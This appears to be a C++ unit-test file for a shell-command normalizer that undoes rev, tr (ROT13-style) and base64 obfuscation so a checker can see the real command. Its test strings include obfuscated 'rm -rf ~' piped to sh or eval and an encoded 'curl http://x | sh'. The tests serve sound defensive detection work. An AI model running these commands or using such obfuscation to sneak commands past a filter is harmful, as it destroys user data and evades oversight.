// What rev and tr print (shell_text_filters.h), the forms left unread, and the normalizer reading
// what they pass on to a shell.
#include "shell_text_filters.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "shell_normalizer_fixture.h"

namespace doberman::internal {
namespace {

// What `argv0 ARGS` prints for `in`, or "<unread>" when the form is not worked out.
std::string Filter(std::string_view argv0, std::vector<std::string_view> args,
                   std::string_view in) {
  std::string out = "untouched";
  if (!ApplyTextFilter(argv0, args, in, &out)) return out == "untouched" ? "<unread>" : "<dirty>";
  return out;
}

TEST(ShellTextFiltersTest, RevReversesEachLineByCharacter) {
  EXPECT_EQ(Filter("rev", {}, "~ fr- mr"), "rm -rf ~");
  EXPECT_EQ(Filter("rev", {}, "cba\nfed\n"), "abc\ndef\n");
  EXPECT_EQ(Filter("rev", {}, ""), "");
  // A UTF-8 character stays whole.
  EXPECT_EQ(Filter("rev", {}, "a\xC3\xA9z"),
            "z\xC3\xA9"
            "a");
  // A file operand is read instead of the piped text; options are not modelled.
  EXPECT_EQ(Filter("rev", {"notes.txt"}, "abc"), "<unread>");
  EXPECT_EQ(Filter("rev", {"-0"}, "abc"), "<unread>");
}

TEST(ShellTextFiltersTest, TrTranslatesAndDeletes) {
  EXPECT_EQ(Filter("tr", {"a-z", "n-za-m"}, "ez -es ~"), "rm -rf ~");
  EXPECT_EQ(Filter("tr", {"A-Za-z", "N-ZA-Mn-za-m"}, "phey uggc://k | fu"), "curl http://x | sh");
  EXPECT_EQ(Filter("tr", {"--", "x", "y"}, "xox"), "yoy");
  // A shorter SET2 is stretched with its last character.
  EXPECT_EQ(Filter("tr", {"abc", "x"}, "aabbcc-"), "xxxxxx-");
  // Escapes: octal and the named ones.
  EXPECT_EQ(Filter("tr", {"_", "\\040"}, "rm_-rf_~"), "rm -rf ~");
  EXPECT_EQ(Filter("tr", {"\\n", " "}, "a\nb"), "a b");
  EXPECT_EQ(Filter("tr", {"-d", "X"}, "rXm -rXf ~"), "rm -rf ~");
  // Forms not worked out: classes, complements, squeezing, a backward range, a missing set.
  EXPECT_EQ(Filter("tr", {"[:lower:]", "[:upper:]"}, "abc"), "<unread>");
  EXPECT_EQ(Filter("tr", {"-c", "a", "b"}, "abc"), "<unread>");
  EXPECT_EQ(Filter("tr", {"-s", " "}, "a  b"), "<unread>");
  EXPECT_EQ(Filter("tr", {"z-a", "a-z"}, "abc"), "<unread>");
  EXPECT_EQ(Filter("tr", {"abc"}, "abc"), "<unread>");
  EXPECT_EQ(Filter("tr", {"a", ""}, "abc"), "<unread>");
  EXPECT_EQ(Filter("sed", {"s/a/b/"}, "abc"), "<unread>");
}

class ShellTextFiltersNormalizerTest : public ShellNormalizerTest {};

TEST_F(ShellTextFiltersNormalizerTest, FilteredTextReachesTheShell) {
  EXPECT_TRUE(Has(Norm("echo '~ fr- mr' | rev | sh"), "rm -r -f ~"));
  EXPECT_TRUE(Has(Norm("echo 'ez -es ~' | tr a-z n-za-m | bash"), "rm -r -f ~"));
  EXPECT_TRUE(Has(Norm("rev <<< '~ fr- mr' | sh"), "rm -r -f ~"));
  // After a decoder, and one filter after another.
  EXPECT_TRUE(Has(Norm("echo fiBmci0gbXI= | base64 -d | rev | sh"), "rm -r -f ~"));
  EXPECT_TRUE(Has(Norm("echo '~ se- ze' | rev | tr a-z n-za-m | sh"), "rm -r -f ~"));
  // In a substitution the shell runs.
  EXPECT_TRUE(Has(Norm("eval \"$(echo '~ fr- mr' | rev)\""), "rm -r -f ~"));
  EXPECT_TRUE(Has(Norm("$(echo 'ez -es ~' | tr 'a-z' 'n-za-m')"), "rm -r -f ~"));
  // An echoed variable is not known text: nothing is worked out from it, and the shell reads what
  // was echoed, as it did without the filter (a computed command).
  EXPECT_EQ(Norm("echo \"$Y\" | rev | sh"), (Segments{"echo $Y", "rev", "$Y", "sh"}));
}

}  // namespace
}  // namespace doberman::internal
